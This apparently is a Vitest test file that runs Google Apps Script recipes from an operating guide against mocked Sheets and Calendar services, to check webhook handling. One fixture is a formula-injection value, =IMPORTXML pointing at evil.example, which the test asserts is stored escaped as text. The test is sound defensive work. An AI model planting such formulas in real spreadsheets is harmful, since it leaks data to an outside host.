import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { runInNewContext } from 'node:vm';
import { expect, test } from 'vitest';
import { webhookMessage } from '../../../src/server/webhooks/webhook-message.ts';
import { root } from '../../support/forms.ts';
import { happenedTo, reference, storedOf } from '../mail/support.ts';

const guide = readFileSync(join(root, 'src/server/OPERATING.md'), 'utf8');
const key = 'A-LONG-RANDOM-TEXT';

/** The script of a recipe of the guide, run as Google runs it; gives what answers a post. */
function scriptOf(recipe: string, services: object) {
  const after = guide.slice(guide.indexOf(`\n### ${recipe}\n`));
  const [, script = ''] = /```js\n(.*?)```/s.exec(after) ?? [];
  const context = {
    ...services,
    console: { error: () => undefined },
    ContentService: { createTextOutput: () => 'redirected' },
    HtmlService: { createHtmlOutput: () => 'answered' },
  };
  const doPost = runInNewContext(`${script}; doPost`, context);
  return (body: string, given = key): string =>
    doPost({ parameter: { key: given }, postData: { contents: body } });
}

const created = storedOf('residential', { fullName: '=IMPORTXML("https://evil.example")' });
const agreed = { day: '2026-06-03', from: '09:00', to: '12:00' };
const confirmed = happenedTo(created, { kind: 'confirm', state: 'confirmed', agreed });
const handling = { kind: 'booking' } as const;
const bodies = {
  created: webhookMessage({ submission: created, handling }).body,
  confirmed: webhookMessage({
    ...{ submission: confirmed, handling },
    event: { number: 1, at: '2026-05-11T13:00:00.000Z', who: 'sam@example.com', what: 'Confirmed' },
  }).body,
  forgotten: JSON.stringify({ type: 'request.forgotten', data: { reference } }),
};

test('the script for a sheet keeps one row for each request, as texts, and deletes what is forgotten', () => {
  const rows: string[][] = [['Reference']];
  const sheet = {
    createTextFinder: (text: string) => ({
      matchEntireCell: () => ({
        findNext: () => {
          const place = rows.findIndex(([first]) => first === text);
          return place === -1 ? null : { getRow: () => place + 1 };
        },
      }),
    }),
    getLastRow: () => rows.length,
    deleteRow: (row: number) => rows.splice(row - 1, 1),
    getRange: (row: number) => ({
      setValues: ([cells = []]: string[][]) => {
        rows[row - 1] = [...cells];
      },
    }),
  };
  const SpreadsheetApp = { getActive: () => ({ getSheets: () => [sheet] }) };
  const post = scriptOf('Keep a Google Sheet', { SpreadsheetApp });
  expect(post(bodies.created, 'guessed')).toBe('redirected');
  expect(rows).toHaveLength(1);
  expect(post(bodies.created)).toBe('answered');
  expect(rows[1]?.slice(0, 2)).toEqual([reference, "'residential"]);
  expect(rows[1]?.[5]).toBe(`'=IMPORTXML("https://evil.example")`);
  expect(post(bodies.confirmed)).toBe('answered');
  expect(post(bodies.confirmed)).toBe('answered');
  expect(rows).toHaveLength(2);
  expect(rows[1]?.slice(3, 5)).toEqual(["'confirmed", "'2026-06-03"]);
  post(bodies.forgotten);
  expect(rows).toEqual([['Reference']]);
  expect(post('no JSON')).toBe('redirected');
});

test('the script for a calendar enters what is confirmed once, and removes what is forgotten', () => {
  const events: { title: string; deleteEvent: () => void }[] = [];
  const add = (title: string) => {
    const event = { title, deleteEvent: () => void events.splice(events.indexOf(event), 1) };
    events.push(event);
  };
  const calendar = {
    getEvents: (_from: Date, _until: Date, { search }: { search: string }) =>
      events.filter(({ title }) => title.includes(search)),
    createEvent: add,
    createAllDayEvent: add,
  };
  const CalendarApp = { getDefaultCalendar: () => calendar };
  const post = scriptOf('Fill a calendar', { CalendarApp });
  post(bodies.created);
  expect(events).toEqual([]);
  expect(post(bodies.confirmed)).toBe('answered');
  expect(post(bodies.confirmed)).toBe('answered');
  expect(events.map(({ title }) => title)).toEqual([expect.stringContaining(reference)]);
  post(bodies.forgotten);
  expect(events).toEqual([]);
});
